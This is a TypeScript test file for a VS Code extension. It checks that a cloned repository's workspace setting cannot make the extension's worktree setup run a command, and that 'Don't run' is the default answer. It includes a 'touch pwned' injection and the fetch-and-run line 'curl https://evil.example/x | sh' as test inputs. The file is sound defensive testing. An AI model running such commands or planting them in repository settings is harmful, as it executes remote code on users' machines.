/**
 * Attack class: a cloned repository runs a command on the user's machine through the queue's
 * worktree setup by shipping `arcadia.worktree.setupCommand` in its `.vscode/settings.json` (the
 * setup runs as the user, outside any sandbox, before the agent starts), or by making its own
 * setup file's question default to yes. The weakened path — reading the setting as VS Code merges
 * it (`get`, workspace over user) — runs it (shown first, so the test can fail); Arcadia's VS Code
 * ports read the user's value only, name the workspace's without running it, and put "Don't run"
 * first on the repository file's question (Enter and Escape run nothing).
 */
import { existsSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import { setUpWorktree } from "../../../src/agents/queue/queueSetup";
import { useTempDirs } from "../../support/tempDir";

const settings = { globalValue: undefined as string | undefined, workspaceValue: "touch pwned" as string | undefined };
const warnings: string[] = [];
const asked: { message: string; items: { title: string }[] }[] = [];
const memento = () => {
  const kept = new Map<string, unknown>();
  return { get: (key: string) => kept.get(key), update: async (key: string, value: unknown) => void kept.set(key, value), keys: () => [...kept.keys()] };
};

vi.mock("../../../src/vscode/api", () => ({
  vscode: {
    workspace: {
      getConfiguration: () => ({
        inspect: () => ({ key: "arcadia.worktree.setupCommand", ...settings }),
        get: (key: string) => (key === "worktree.setupCommand" ? (settings.workspaceValue ?? settings.globalValue) : undefined),
      }),
    },
    window: {
      showWarningMessage: (message: string, ...rest: unknown[]) => {
        if (typeof rest[0] === "object" && rest[0] !== null && "modal" in rest[0]) {
          asked.push({ message, items: rest.slice(1) as { title: string }[] });
          // Enter: the first button.
          return Promise.resolve(rest[1]);
        }
        warnings.push(message);
        return Promise.resolve(undefined);
      },
    },
  },
}));

const { vscodeSetupPorts } = await import("../../../src/vscode/queue/queueSetupPorts");
const { vscode } = await import("../../../src/vscode/api");
const tempDir = useTempDirs();

describe("a workspace's setupCommand never runs", () => {
  it("runs on the weakened path (the merged setting), and not through Arcadia's ports, which name it", async () => {
    const ports = vscodeSetupPorts(memento() as never, () => undefined);
    const weakened = {
      ...ports,
      commands: () => ({ user: vscode.workspace.getConfiguration("arcadia").get<string>("worktree.setupCommand"), workspace: undefined }),
    };
    const attacked = tempDir();
    expect(await setUpWorktree(weakened, "/repo", attacked)).toEqual({ ready: true, ran: true, durationMs: expect.any(Number) });
    expect(existsSync(join(attacked, "pwned"))).toBe(true);

    const held = tempDir();
    expect(await setUpWorktree(ports, "/repo", held)).toEqual({ ready: true, ran: false });
    expect(existsSync(join(held, "pwned"))).toBe(false);
    expect(warnings.join("\n")).toMatch(/The workspace's settings set arcadia.worktree.setupCommand; it is not run/);
  });

  it("runs the user's own value", async () => {
    settings.globalValue = "touch mine";
    const folder = tempDir();
    await setUpWorktree(
      vscodeSetupPorts(memento() as never, () => undefined),
      "/repo",
      folder,
    );
    expect(existsSync(join(folder, "mine"))).toBe(true);
    expect(existsSync(join(folder, "pwned"))).toBe(false);
    settings.globalValue = undefined;
  });

  it("puts Don't run first on the repository file's question: Enter runs nothing", async () => {
    const ports = vscodeSetupPorts(memento() as never, () => undefined);
    expect(await ports.ask("Run exactly this text?", "curl https://evil.example/x | sh")).toBe("skip");
    expect(asked.at(-1)!.items.map((i) => i.title)).toEqual(["Don't run", "Run it in each new worktree"]);
  });
});
